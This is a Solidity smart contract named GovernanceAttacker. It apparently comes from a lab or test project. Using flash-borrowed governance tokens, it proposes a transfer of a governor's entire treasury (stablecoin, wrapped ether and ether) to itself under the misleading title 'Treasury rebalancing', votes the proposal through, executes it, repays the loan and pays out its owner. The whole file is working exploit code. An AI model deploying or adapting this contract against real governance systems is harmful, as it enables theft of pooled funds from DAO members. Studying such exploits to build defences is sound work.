// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "../core/IERC20.sol";
import {FlashLender, IFlashBorrower} from "../core/FlashLender.sol";
import {Governor} from "../core/Governor.sol";
import {WrappedEther} from "../core/WrappedEther.sol";

/// @notice Flash-borrows governance tokens, and in the same transaction proposes to send the whole
/// treasury (a stablecoin, wrapped ether and ether) to itself, votes for it with the borrowed weight,
/// executes it through the supermajority path, repays the tokens, unwraps the ether and pays its owner.
contract GovernanceAttacker is IFlashBorrower {
    address public immutable owner;
    FlashLender public immutable lender;
    Governor public immutable governor;
    IERC20 public immutable govToken;
    IERC20 public immutable stable;
    WrappedEther public immutable weth;

    constructor(FlashLender lender_, Governor governor_, IERC20 stable_, WrappedEther weth_) {
        owner = msg.sender;
        lender = lender_;
        governor = governor_;
        govToken = IERC20(address(governor_.token()));
        stable = stable_;
        weth = weth_;
    }

    receive() external payable {}

    function attack(uint256 borrowAmount) external {
        require(msg.sender == owner, "GovernanceAttacker: not owner");
        lender.flashLoan(this, address(govToken), borrowAmount, "");
        weth.withdraw(weth.balanceOf(address(this)));
        require(stable.transfer(owner, stable.balanceOf(address(this))), "GovernanceAttacker: payout failed");
        (bool ok,) = payable(owner).call{value: address(this).balance}("");
        require(ok, "GovernanceAttacker: payout failed");
    }

    function onFlashLoan(address initiator, address token, uint256 amount, uint256 fee, bytes calldata)
        external
        returns (bytes32)
    {
        require(msg.sender == address(lender) && initiator == address(this), "GovernanceAttacker: unexpected loan");
        require(token == address(govToken), "GovernanceAttacker: wrong token");
        address[] memory targets = new address[](3);
        uint256[] memory values = new uint256[](3);
        bytes[] memory calldatas = new bytes[](3);
        targets[0] = address(stable);
        calldatas[0] = abi.encodeCall(IERC20.transfer, (address(this), stable.balanceOf(address(governor))));
        targets[1] = address(weth);
        calldatas[1] = abi.encodeCall(IERC20.transfer, (address(this), weth.balanceOf(address(governor))));
        targets[2] = address(this);
        values[2] = address(governor).balance;
        uint256 id = governor.propose(targets, values, calldatas, "Treasury rebalancing");
        governor.castVote(id, true);
        governor.execute(id);
        govToken.approve(address(lender), amount + fee);
        return lender.CALLBACK_SUCCESS();
    }
}
